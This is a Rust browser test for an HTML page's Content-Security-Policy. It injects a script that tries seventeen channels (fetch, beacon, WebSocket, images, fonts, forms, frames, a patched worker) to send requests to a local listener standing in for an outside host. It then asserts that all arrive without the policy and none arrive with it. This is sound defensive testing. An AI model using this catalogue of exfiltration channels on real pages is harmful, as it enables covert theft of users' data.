//! The policy: whatever a script on the page tries, nothing leaves it, and without the policy it would.
//!
//! Invariant: the attempts are the same with and without the policy, so that the test can fail.

use crate::support::ear::Ear;
use crate::support::{Host, Tab, file_address, pages};
use serde_json::json;

/// What a page can send by, each under its own path.
const ATTEMPTS: &str = "
    const attempt = (path, go) => { try { go('http://EAR/' + path) } catch { /* refused at once */ } };
    const make = (tag, set) => { const e = document.createElement(tag); set(e); document.body.append(e) };
    attempt('fetch', to => fetch(to, { mode: 'no-cors' }).catch(() => {}));
    attempt('xhr', to => { const request = new XMLHttpRequest(); request.open('GET', to); request.send() });
    attempt('beacon', to => navigator.sendBeacon(to, 'x'));
    attempt('source', to => new EventSource(to));
    attempt('socket', to => new WebSocket(to.replace('http', 'ws')));
    attempt('image', to => make('img', e => e.src = to));
    attempt('srcset', to => make('img', e => e.srcset = to + ' 1x'));
    attempt('script', to => make('script', e => e.src = to));
    attempt('style', to => make('link', e => { e.rel = 'stylesheet'; e.href = to }));
    attempt('import', to => make('style', e => e.textContent = '@import url(' + to + ');'));
    attempt('background', to => make('p', e => { e.textContent = 'x'; e.style.background = 'url(' + to + ')' }));
    attempt('font', to => new FontFace('x', 'url(' + to + ')').load().catch(() => {}));
    attempt('frame', to => make('iframe', e => e.src = to));
    attempt('object', to => make('object', e => e.data = to));
    attempt('media', to => make('video', e => e.src = to));
    attempt('form', to => {
        make('iframe', e => e.name = 'there');
        make('form', e => { e.action = to; e.target = 'there'; document.body.append(e); e.submit() }) });";

/// Their paths, and that of the worker.
const PATHS: [&str; 17] = [
    "/background",
    "/beacon",
    "/fetch",
    "/font",
    "/form?",
    "/frame",
    "/image",
    "/import",
    "/media",
    "/object",
    "/script",
    "/socket",
    "/source",
    "/srcset",
    "/style",
    "/worker",
    "/xhr",
];

/// Opens the page with an engine's worker that begins by sending something, then sends from the page.
fn tried(address: &str, ear: &Ear) -> Tab {
    let tab = Tab::chromium(address);
    // The worker's program is the page's own, which the policy lets through by its hash: what it sends is put before
    // it where the page makes it.
    let worker =
        format!("fetch('http://{}/worker', {{ mode: 'no-cors' }}).catch(function () {{}});", ear.origin());
    tab.before_load(&format!(
        "window.Blob = class extends Blob {{ constructor(parts, options) {{
             super(options?.type === 'text/javascript' ? [{}, ...parts] : parts, options) }} }};",
        json!(worker)
    ));
    tab.goto("");
    tab.wait_for("main .cross");
    tab.js(&ATTEMPTS.replace("EAR", ear.origin()));
    tab
}

#[test]
fn nothing_reaches_a_listening_server() {
    let page = pages::copied(&pages::seeds(), "guarded.html");
    let html = std::fs::read_to_string(&page).unwrap();
    let start = html.find("<meta http-equiv=\"Content-Security-Policy\"").expect("the page has a policy");
    let end = start + html[start..].find('>').unwrap() + 1;
    let open = pages::folder_of(&page).join("open.html");
    std::fs::write(&open, format!("{}{}", &html[..start], &html[end..])).unwrap();
    let host = Host::of(&pages::folder_of(&page));
    for (guarded, open) in
        [(host.address(&page), host.address(&open)), (file_address(&page), file_address(&open))]
    {
        // The control: without the policy every one of them arrives.
        let ear = Ear::open();
        let tab = tried(&open, &ear);
        tab.wait("everything to arrive without the policy", || ear.heard() == PATHS);

        let ear = Ear::open();
        let tab = tried(&guarded, &ear);
        for (what, path) in [
            ("Framing", ""),
            ("to", "fetch"),
            ("to", "beacon"),
            ("to", "socket"),
            ("to", "worker"),
            ("", "image"),
        ] {
            tab.wait(&format!("{path} to be refused"), || {
                let address = format!("{}/{path}", ear.origin());
                tab.console().iter().any(|said| said.contains(what) && said.contains(&address))
            });
        }
        // The page goes on working, and its worker.
        tab.goto("#/?q=Hamas");
        tab.wait_for("main section[data-slug] mark.hit");
        assert_eq!(ear.heard(), [] as [&str; 0], "from {}", tab.page());
    }
}
